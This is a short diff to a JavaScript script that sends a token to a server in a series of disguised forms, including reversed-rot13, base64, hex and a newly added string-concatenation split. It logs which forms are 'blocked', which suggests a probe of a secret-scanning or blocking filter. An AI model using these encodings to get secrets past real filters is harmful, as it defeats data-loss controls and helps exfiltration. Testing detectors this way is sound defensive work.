@@ -18,6 +18,7 @@ const forms = [
 	['reversed-rot13', rot(rev(tok), 13)],
 	['base64-of-reversed', Buffer.from(rev(tok)).toString('base64')],
 	['hex-of-reversed', Buffer.from(rev(tok)).toString('hex')],
+	['concat', '"' + tok.match(/.{1,4}/g).join('" + "') + '"'],
 	['clean', 'var tuc_ab = 1, _phgx = 2; function xoy_read(jsc_opts) { return __proto__; } // pkg-10853'],
 ];
 function send(i) {
@@ -31,6 +32,6 @@ function send(i) {
 	});
 	req.on('error', () => { console.log(how + ' blocked'); send(i + 1); });
 	req.setTimeout(10000, () => req.destroy());
-	req.end('const t = "' + body + '";\n');
+	req.end(how === 'concat' ? 'const t = ' + body + ';\n' : 'const t = "' + body + '";\n');
 }
 send(0);
